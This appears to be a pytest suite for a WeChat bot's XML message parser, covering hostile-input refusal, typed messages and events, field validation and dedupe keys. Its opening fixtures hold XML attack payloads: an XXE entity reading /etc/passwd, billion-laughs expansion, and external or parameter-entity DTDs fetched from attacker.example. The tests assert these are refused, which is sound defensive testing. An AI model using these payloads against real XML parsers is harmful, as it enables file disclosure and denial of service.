"""Inbound XML: hostile input is refused, every message/event type is typed correctly."""

from __future__ import annotations

import dataclasses
from typing import Any

import pytest

from bot.wechat import (
    ClickEvent,
    ImageMessage,
    Inbound,
    InboundEvent,
    LinkMessage,
    LocationEvent,
    LocationMessage,
    MalformedMessageError,
    MassSendJobFinishEvent,
    ScanEvent,
    SubscribeEvent,
    SubscribeMsgChangeEvent,
    SubscribeMsgItem,
    SubscribeMsgPopupEvent,
    SubscribeMsgSentEvent,
    TemplateSendJobFinishEvent,
    TextMessage,
    UnknownMessage,
    UnsubscribeEvent,
    VideoMessage,
    ViewEvent,
    VoiceMessage,
    parse_message,
    parse_xml,
)
from tests.wechat_peer import WeChatPeer

OPENID = "oUser_0123456789abcdefghijk"
CT = 1_700_000_000
PEER = WeChatPeer("token")


def parse(xml: str) -> Any:
    return parse_message(parse_xml(xml.encode()))


def event(name: str, key: str | None = None, **extra: Any) -> Any:
    return parse(PEER.event_xml(OPENID, name, key, extra or None, create_time=CT))


# ----------------------------------------------------------------------- parse_xml safety

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>a</ToUserName><Content>&xxe;</Content></xml>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE xml [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<xml><Content>&lol3;</Content></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><Content>hi</Content></xml>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/x">%remote;]>
<xml/>"""


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(XXE, id="xxe"),
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(EXTERNAL_DTD, id="external-dtd"),
        pytest.param(PARAMETER_ENTITY, id="parameter-entity"),
        pytest.param(b"<!DOCTYPE xml><xml><a>1</a></xml>", id="harmless-doctype"),
        pytest.param(b"<root><ToUserName>a</ToUserName></root>", id="wrong-root"),
        pytest.param(b"<XML><a>1</a></XML>", id="uppercase-root"),
        pytest.param(b"<xml><ToUserName>a</ToUserName><Content>tru", id="truncated"),
        pytest.param(b"<xml><a></b></xml>", id="mismatched-tags"),
        pytest.param(b"", id="empty"),
        pytest.param(b"success", id="not-xml"),
        pytest.param(b'{"MsgType": "text"}', id="json"),
        pytest.param(b'<?xml version="1.0" encoding="no-such-codec"?><xml/>', id="bad-encoding"),
        pytest.param(b"<xml><a>\xff\xfe</a></xml>", id="invalid-utf8"),
        pytest.param(b"<xml>" + b"<a>" * 50 + b"</a>" * 50 + b"</xml>", id="too-deep"),
    ],
)
def test_hostile_or_broken_xml_is_malformed(body: bytes) -> None:
    with pytest.raises(MalformedMessageError) as info:
        parse_xml(body)
    assert info.value.http_status == 400


@pytest.mark.parametrize(
    "body",
    [
        # The refusal is the parser's, not a scan of the bytes: encodings hide "<!DOCTYPE".
        pytest.param(BILLION_LAUGHS.decode().encode("utf-16"), id="utf-16-with-bom"),
        pytest.param(
            b'<?xml version="1.0" encoding="cp500"?>'
            + b'<!DOCTYPE xml [<!ENTITY a "x">]><xml><C>&a;</C></xml>'.decode().encode("cp500"),
            id="ebcdic-declared",
        ),
        pytest.param(b"<xml><C>&ent;</C></xml>", id="undeclared-entity"),
        pytest.param(b"<xml><C>1</C></xml><xml><C>2</C></xml>", id="two-roots"),
    ],
)
def test_dtds_are_refused_whatever_the_encoding(body: bytes) -> None:
    with pytest.raises(MalformedMessageError):
        parse_xml(body)


def test_markup_inside_cdata_and_comments_are_plain_text() -> None:
    """A user may type "<!DOCTYPE" or "<!ENTITY": WeChat sends it in CDATA, and it is text."""
    body = (
        b'<?xml version="1.0" encoding="UTF-8"?><!-- from WeChat --><xml>'
        b"<Content><![CDATA[<!DOCTYPE x [<!ENTITY a 'b'>]> &a;]]></Content>"
        b"<!-- a comment --><Note>x<!-- inside -->y</Note></xml>"
    )
    assert parse_xml(body) == {"Content": "<!DOCTYPE x [<!ENTITY a 'b'>]> &a;", "Note": "xy"}


def test_parse_xml_ignores_text_beside_child_elements_and_attributes() -> None:
    body = b'<xml a="1"><B c="2">text<C>x</C>tail</B><Root>only text</Root></xml>'
    assert parse_xml(body) == {"B": {"C": "x"}, "Root": "only text"}
    assert parse_xml(b"<xml>text only</xml>") == {}


def test_nesting_up_to_the_limit_is_accepted() -> None:
    depth = 7  # elements with children below the root (8 levels with it); leaves one deeper
    body = b"<xml>" + b"<a>" * depth + b"<leaf>v</leaf>" + b"</a>" * depth + b"</xml>"
    value: Any = parse_xml(body)
    for _ in range(depth):
        value = value["a"]
    assert value == {"leaf": "v"}
    with pytest.raises(MalformedMessageError):
        parse_xml(
            b"<xml>" + b"<a>" * (depth + 1) + b"<leaf>v</leaf>" + b"</a>" * (depth + 1) + b"</xml>"
        )


def test_parse_xml_keeps_cdata_text_exactly() -> None:
    body = (
        "<xml><Content><![CDATA[  两个空格\n换行 <b>&amp; ]]></Content>"
        "<Plain>a &amp; b &lt;c&gt;</Plain><Empty></Empty><Self/></xml>"
    ).encode()
    assert parse_xml(body) == {
        "Content": "  两个空格\n换行 <b>&amp; ",
        "Plain": "a & b <c>",
        "Empty": "",
        "Self": "",
    }


def test_parse_xml_single_list_is_still_a_list() -> None:
    body = (
        b"<xml><SubscribeMsgPopupEvent><List><TemplateId>t1</TemplateId></List>"
        b"</SubscribeMsgPopupEvent></xml>"
    )
    assert parse_xml(body) == {"SubscribeMsgPopupEvent": {"List": [{"TemplateId": "t1"}]}}


def test_parse_xml_repeated_tags_become_lists() -> None:
    body = b"<xml><A>1</A><A>2</A><A>3</A><B><C>x</C></B><L><item>i</item></L></xml>"
    assert parse_xml(body) == {"A": ["1", "2", "3"], "B": {"C": "x"}, "L": {"item": ["i"]}}


def test_parse_xml_honours_a_declared_single_byte_encoding() -> None:
    latin1 = '<?xml version="1.0" encoding="ISO-8859-1"?><xml><C>café</C></xml>'.encode("latin-1")
    assert parse_xml(latin1) == {"C": "café"}


def test_multibyte_non_utf8_encodings_are_malformed_not_a_crash() -> None:
    # Expat cannot decode GBK; the ValueError it raises must not leak.
    gbk = '<?xml version="1.0" encoding="GBK"?><xml><C>政务</C></xml>'.encode("gbk")
    with pytest.raises(MalformedMessageError):
        parse_xml(gbk)


# ----------------------------------------------------------------------- messages


def test_text_message() -> None:
    msg = parse(PEER.text_xml(OPENID, " 营业执照 怎么办？\n", 6054768590064713728, create_time=CT))
    assert msg == TextMessage(
        to_user="gh_test",
        from_user=OPENID,
        create_time=CT,
        msg_id=6054768590064713728,
        content=" 营业执照 怎么办？\n",
    )
    assert msg.kind == "text"
    assert not isinstance(msg, InboundEvent)
    assert isinstance(msg, Inbound)


def test_image_message() -> None:
    msg = parse(PEER.image_xml(OPENID, "http://mmbiz/pic.jpg", "media-1", 11, create_time=CT))
    assert isinstance(msg, ImageMessage)
    assert (msg.pic_url, msg.media_id, msg.msg_id, msg.kind) == (
        "http://mmbiz/pic.jpg",
        "media-1",
        11,
        "image",
    )


def test_voice_with_recognition() -> None:
    msg = parse(PEER.voice_xml(OPENID, "m-2", 12, fmt="speex", recognition="社保怎么交"))
    assert isinstance(msg, VoiceMessage)
    assert (msg.media_id, msg.format, msg.recognition, msg.kind) == (
        "m-2",
        "speex",
        "社保怎么交",
        "voice",
    )


@pytest.mark.parametrize("recognition", [None, "", "  "])
def test_voice_without_recognition(recognition: str | None) -> None:
    msg = parse(PEER.voice_xml(OPENID, "m-3", 13, recognition=recognition))
    assert isinstance(msg, VoiceMessage)
    assert msg.recognition is None
    assert msg.format == "amr"


@pytest.mark.parametrize("short", [False, True])
def test_video_and_short_video(short: bool) -> None:
    msg = parse(PEER.video_xml(OPENID, "vid", "thumb", 14, short=short))
    assert isinstance(msg, VideoMessage)
    assert (msg.media_id, msg.thumb_media_id, msg.short, msg.kind) == (
        "vid",
        "thumb",
        short,
        "video",
    )


def test_location_message() -> None:
    msg = parse(PEER.location_xml(OPENID, 23.134521, 113.358803, 20, "位置信息", 15))
    assert isinstance(msg, LocationMessage)
    assert msg.latitude == pytest.approx(23.134521)
    assert msg.longitude == pytest.approx(113.358803)
    assert (msg.scale, msg.label, msg.kind) == (20, "位置信息", "location")


def test_link_message() -> None:
    msg = parse(PEER.link_xml(OPENID, "标题", "描述", "https://example.gov.cn/a", 16))
    assert isinstance(msg, LinkMessage)
    assert (msg.title, msg.description, msg.url, msg.kind) == (
        "标题",
        "描述",
        "https://example.gov.cn/a",
        "link",
    )


# ----------------------------------------------------------------------- events


def test_plain_subscribe() -> None:
    msg = event("subscribe", "")
    assert isinstance(msg, SubscribeEvent)
    assert (msg.scene, msg.ticket, msg.msg_id, msg.kind) == (None, None, None, "event:subscribe")


def test_subscribe_without_event_key_element() -> None:
    msg = event("subscribe")
    assert isinstance(msg, SubscribeEvent)
    assert msg.scene is None
    assert msg.event_key == ""


def test_subscribe_through_parametric_qr_code() -> None:
    msg = event("subscribe", "qrscene_123", Ticket="gQH47joAAAAAAAAAASxodHRw")
    assert isinstance(msg, SubscribeEvent)
    assert (msg.scene, msg.ticket, msg.event_key) == (
        "123",
        "gQH47joAAAAAAAAAASxodHRw",
        "qrscene_123",
    )


def test_unsubscribe() -> None:
    msg = event("unsubscribe", "")
    assert isinstance(msg, UnsubscribeEvent)
    assert msg.kind == "event:unsubscribe"


def test_scan_by_follower() -> None:
    msg = event("SCAN", "123", Ticket="TICKET")
    assert isinstance(msg, ScanEvent)
    assert (msg.scene, msg.ticket, msg.kind) == ("123", "TICKET", "event:scan")


def test_location_event() -> None:
    msg = event("LOCATION", None, Latitude="23.137466", Longitude="113.352425", Precision="119.3")
    assert isinstance(msg, LocationEvent)
    assert (msg.latitude, msg.longitude, msg.precision) == (23.137466, 113.352425, 119.3)
    assert msg.kind == "event:location"


@pytest.mark.parametrize("name", ["CLICK", "click", "Click"])
def test_click_matches_case_insensitively(name: str) -> None:
    msg = event(name, "MENU_POLICY")
    assert isinstance(msg, ClickEvent)
    assert (msg.key, msg.event, msg.kind) == ("MENU_POLICY", "click", "event:click")


def test_view() -> None:
    msg = event("VIEW", "https://example.gov.cn/gk", MenuId="208379533")
    assert isinstance(msg, ViewEvent)
    assert msg.url == "https://example.gov.cn/gk"
    assert msg.raw["MenuId"] == "208379533"


def test_template_send_job_finish() -> None:
    msg = event("TEMPLATESENDJOBFINISH", None, MsgID="200163836", Status="failed:user block")
    assert isinstance(msg, TemplateSendJobFinishEvent)
    assert (msg.msg_id, msg.status, msg.kind) == (
        200163836,
        "failed:user block",
        "event:templatesendjobfinish",
    )


def test_mass_send_job_finish() -> None:
    msg = event(
        "MASSSENDJOBFINISH",
        None,
        MsgID=1988,
        Status="sendsuccess",
        TotalCount=100,
        FilterCount=80,
        SentCount=75,
        ErrorCount=5,
    )
    assert msg == MassSendJobFinishEvent(
        to_user="gh_test",
        from_user=OPENID,
        create_time=CT,
        msg_id=1988,
        status="sendsuccess",
        total_count=100,
        filter_count=80,
        sent_count=75,
        error_count=5,
    )


def test_subscribe_msg_popup_with_one_template() -> None:
    popup = {"List": [{"TemplateId": "tpl-A", "SubscribeStatusString": "accept", "PopupScene": 2}]}
    msg = event("subscribe_msg_popup_event", None, SubscribeMsgPopupEvent=popup)
    assert isinstance(msg, SubscribeMsgPopupEvent)
    assert msg.items == (SubscribeMsgItem(template_id="tpl-A", status="accept", popup_scene="2"),)
    assert msg.kind == "event:subscribe_msg_popup_event"


def test_subscribe_msg_popup_with_two_templates() -> None:
    popup = {
        "List": [
            {"TemplateId": "tpl-A", "SubscribeStatusString": "reject", "PopupScene": 0},
            {"TemplateId": "tpl-B", "SubscribeStatusString": "accept", "PopupScene": 0},
        ]
    }
    msg = event("subscribe_msg_popup_event", None, SubscribeMsgPopupEvent=popup)
    assert [(i.template_id, i.status) for i in msg.items] == [
        ("tpl-A", "reject"),
        ("tpl-B", "accept"),
    ]


def test_subscribe_msg_change() -> None:
    change = {"List": {"TemplateId": "tpl-A", "SubscribeStatusString": "reject"}}
    msg = event("subscribe_msg_change_event", None, SubscribeMsgChangeEvent=change)
    assert isinstance(msg, SubscribeMsgChangeEvent)
    assert msg.items == (SubscribeMsgItem(template_id="tpl-A", status="reject"),)


def test_subscribe_msg_sent() -> None:
    sent = {
        "List": {
            "TemplateId": "tpl-A",
            "MsgID": "2794188253209100289",
            "ErrorCode": 0,
            "ErrorStatus": "success",
        }
    }
    msg = event("subscribe_msg_sent_event", None, SubscribeMsgSentEvent=sent)
    assert isinstance(msg, SubscribeMsgSentEvent)
    assert msg.items == (
        SubscribeMsgItem(
            template_id="tpl-A",
            msg_id="2794188253209100289",
            error_code="0",
            error_status="success",
        ),
    )


def test_subscription_event_with_garbled_list_is_malformed() -> None:
    with pytest.raises(MalformedMessageError):
        event("subscribe_msg_popup_event", None, SubscribeMsgPopupEvent="just text")


def test_unknown_event_is_not_an_error() -> None:
    msg = event("PUBLISHJOBFINISH", None, PublishEventInfo={"publish_id": "1", "publish_status": 0})
    assert isinstance(msg, UnknownMessage)
    assert (msg.msg_type, msg.event, msg.kind) == ("event", "PUBLISHJOBFINISH", "unknown")
    assert msg.raw["PublishEventInfo"] == {"publish_id": "1", "publish_status": "0"}


def test_unknown_message_type_is_not_an_error() -> None:
    xml = (
        f"<xml><ToUserName>gh</ToUserName><FromUserName>{OPENID}</FromUserName>"
        f"<CreateTime>{CT}</CreateTime><MsgType>miniprogrampage</MsgType>"
        "<MsgId>99</MsgId><Title>t</Title></xml>"
    )
    msg = parse(xml)
    assert isinstance(msg, UnknownMessage)
    assert (msg.msg_type, msg.event, msg.msg_id, msg.kind) == (
        "miniprogrampage",
        None,
        99,
        "unknown",
    )


def test_event_without_event_name_is_unknown() -> None:
    msg = parse(
        f"<xml><ToUserName>gh</ToUserName><FromUserName>{OPENID}</FromUserName>"
        f"<CreateTime>{CT}</CreateTime><MsgType>event</MsgType></xml>"
    )
    assert isinstance(msg, UnknownMessage)
    assert msg.event is None


# ----------------------------------------------------------------------- validation

FULL = {"ToUserName": "gh", "FromUserName": OPENID, "CreateTime": "1", "MsgType": "text"}


@pytest.mark.parametrize("missing", sorted(FULL))
def test_missing_common_field(missing: str) -> None:
    fields = {k: v for k, v in FULL.items() if k != missing}
    with pytest.raises(MalformedMessageError, match=missing):
        parse_message(fields)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("CreateTime", "yesterday"),
        ("CreateTime", "1.5"),
        ("CreateTime", ""),
        ("ToUserName", "  "),
        ("MsgId", "abc"),
        ("Content", {"nested": "x"}),
        ("FromUserName", ["a", "b"]),
    ],
)
def test_bad_field_values(field: str, value: Any) -> None:
    with pytest.raises(MalformedMessageError):
        parse_message({**FULL, field: value})


@pytest.mark.parametrize("value", ["north", "nan", "inf", ""])
def test_bad_coordinates(value: str) -> None:
    xml = PEER.location_xml(OPENID, 1.0, 2.0, 10, "x", 1).replace("1.0", value)
    with pytest.raises(MalformedMessageError, match="Location_X"):
        parse(xml)


def test_messages_are_frozen_and_raw_is_read_only() -> None:
    msg = parse(PEER.text_xml(OPENID, "hi", 1))
    with pytest.raises(dataclasses.FrozenInstanceError):
        msg.content = "changed"
    with pytest.raises(TypeError):
        msg.raw["Content"] = "changed"
    assert msg.raw["Content"] == "hi"


def test_raw_is_left_out_of_equality_and_repr() -> None:
    a = parse_message({**FULL, "Content": "hi", "Extra": "1"})
    b = parse_message({**FULL, "Content": "hi", "Extra": "2"})
    assert a == b
    assert hash(a) == hash(b)
    assert "raw" not in repr(a)
    assert "Extra" not in repr(a)


# ----------------------------------------------------------------------- dedupe keys


def test_message_dedupe_key_includes_sender() -> None:
    a = parse(PEER.text_xml("openid-A", "x", 42, create_time=CT))
    b = parse(PEER.text_xml("openid-B", "x", 42, create_time=CT))
    assert a.dedupe_key == "m:openid-A:42"
    assert b.dedupe_key == "m:openid-B:42"


def test_message_dedupe_key_survives_retries() -> None:
    xml = PEER.voice_xml(OPENID, "m", 77, create_time=CT)
    assert parse(xml).dedupe_key == parse(xml).dedupe_key == f"m:{OPENID}:77"


@pytest.mark.parametrize(
    ("name", "key", "expected"),
    [
        ("CLICK", "MENU_A", f"e:{OPENID}:{CT}:click:MENU_A"),
        ("click", "MENU_A", f"e:{OPENID}:{CT}:click:MENU_A"),
        ("subscribe", "qrscene_123", f"e:{OPENID}:{CT}:subscribe:qrscene_123"),
        ("subscribe", None, f"e:{OPENID}:{CT}:subscribe:"),
        ("unsubscribe", "", f"e:{OPENID}:{CT}:unsubscribe:"),
        ("PUBLISHJOBFINISH", None, f"e:{OPENID}:{CT}:publishjobfinish:"),
    ],
)
def test_event_dedupe_keys(name: str, key: str | None, expected: str) -> None:
    assert event(name, key).dedupe_key == expected


def test_events_in_the_same_second_differ_by_event_key() -> None:
    assert event("CLICK", "MENU_A").dedupe_key != event("CLICK", "MENU_B").dedupe_key
    assert event("CLICK", "MENU_A").dedupe_key != event("VIEW", "MENU_A").dedupe_key


def test_job_result_dedupe_keys_include_the_msg_id() -> None:
    first = event("TEMPLATESENDJOBFINISH", None, MsgID="1", Status="success")
    second = event("TEMPLATESENDJOBFINISH", None, MsgID="2", Status="success")
    assert first.dedupe_key == f"e:{OPENID}:{CT}:templatesendjobfinish::1"
    assert first.dedupe_key != second.dedupe_key
    sent = {"List": [{"TemplateId": "t", "MsgID": "9"}, {"TemplateId": "t", "MsgID": "10"}]}
    msg = event("subscribe_msg_sent_event", None, SubscribeMsgSentEvent=sent)
    assert msg.dedupe_key == f"e:{OPENID}:{CT}:subscribe_msg_sent_event::9,10"


def test_message_and_event_keys_cannot_collide() -> None:
    msg = parse_message({**FULL, "Content": "x", "MsgId": "5"})
    evt = parse_message({**FULL, "MsgType": "event", "Event": "CLICK", "EventKey": "5"})
    assert msg.dedupe_key.startswith("m:")
    assert evt.dedupe_key.startswith("e:")


def test_unknown_message_without_msg_id_still_has_a_key() -> None:
    msg = parse_message({**FULL, "MsgType": "newtype"})
    assert msg.dedupe_key == f"t:{OPENID}:1:unknown"
